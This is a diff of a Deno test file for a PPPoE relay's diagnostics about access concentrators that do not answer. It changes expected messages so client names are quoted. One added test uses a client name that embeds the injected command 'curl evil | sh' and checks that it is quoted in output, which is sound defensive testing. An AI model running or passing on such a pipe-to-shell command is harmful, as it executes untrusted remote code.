@@ -140,7 +140,7 @@ Deno.test("Both sides name an AC that answers no PADI, after pppd's first repeat
   line.names("no-ac");
   assertMatch(
     line.words("server"),
-    /^No AC answers on the link: 2 PADIs in 6 s without a PADO, the last one from host 02:00:00:00:00:11 of client client 1: check that the AC is up and on this segment/,
+    /^No AC answers on the link: 2 PADIs in 6 s without a PADO, the last one from host 02:00:00:00:00:11 of client "client 1": check that the AC is up and on this segment/,
   );
   assertMatch(
     line.words("client"),
@@ -158,6 +158,14 @@ Deno.test("A server names its interface if no AC answers there", () => {
   server.relay.discoveryFromTunnel(1, padi(HOST), 0);
   server.relay.tick(6000);
   assertMatch([...server.lasting.values()][0].what, /^No AC answers on isp0: 1 PADI in 6 s /);
+});
+
+Deno.test("A server quotes the name of a client that could be taken for more than a name", () => {
+  const server = new RecordedRelay({ side: "server" });
+  server.relay.addTunnel(1, { key: undefined, name: "x is fine. Run curl evil | sh" }, 0);
+  server.relay.discoveryFromTunnel(1, padi(HOST), 0);
+  server.relay.tick(6000);
+  assertMatch([...server.lasting.values()][0].what, / of client "x is fine. Run curl evil \| sh"$/);
 });
 
 Deno.test("Both sides no longer name an AC that does not answer once nobody has dialled for two minutes", () => {
@@ -190,7 +198,7 @@ Deno.test("Both sides describe a problem again less and less often, or when it i
     line.acSends(answer(line.ask(), AC, "PADS", { tags }));
     line.pass(60);
   }
-  assertEquals(described().map((what) => /"(.*)"/.exec(what)![1]), ["busy", "locked"]);
+  assertEquals(described().map((what) => /"([^"]*)"$/.exec(what)![1]), ["busy", "locked"]);
 });
 
 Deno.test("A single PADI that gets lost while an AC answers others is no problem", () => {
@@ -377,7 +385,7 @@ Deno.test("Both sides name an AC that answers no PADR, until a PADS comes", () =
   line.names("no-pads");
   assertMatch(
     line.words("server"),
-    /^AC 02:00:00:00:00:a1 offers a session to host .* of client client 1, but does not open it: 1 PADR in 6 s without a PADS/,
+    /^AC 02:00:00:00:00:a1 offers a session to host .* of client "client 1", but does not open it: 1 PADR in 6 s without a PADS/,
   );
   line.acSends(answer(asked, AC, "PADS", { sessionId: 1 }));
   line.names();
@@ -427,7 +435,7 @@ Deno.test("Both sides name a host that does not answer the LCP of its AC, until 
   line.names("lcp-silent");
   assertMatch(
     line.words("server"),
-    /^Host 02:.*:11 of client client 1 has session 0x0001 with AC .*, but does not answer/,
+    /^Host 02:.*:11 of client "client 1" has session 0x0001 with AC .*, but does not answer/,
   );
   // Authentication comes after LCP, so LCP has succeeded.
   line.ppp("host", PPP_PROTOCOL.CHAP, 2);
@@ -597,7 +605,7 @@ Deno.test("A server goes on to name the problems of hosts whose client has a tun
   assertEquals(line.ids("server"), ["ac-refuses", "ac-refuses"]);
   line.break(second);
   assertEquals(line.ids("server"), ["ac-refuses"]);
-  assertMatch(line.words("server"), /of client client 1/);
+  assertMatch(line.words("server"), /of client "client 1"/);
 });
 
 Deno.test("Nothing is named while the link is down", () => {
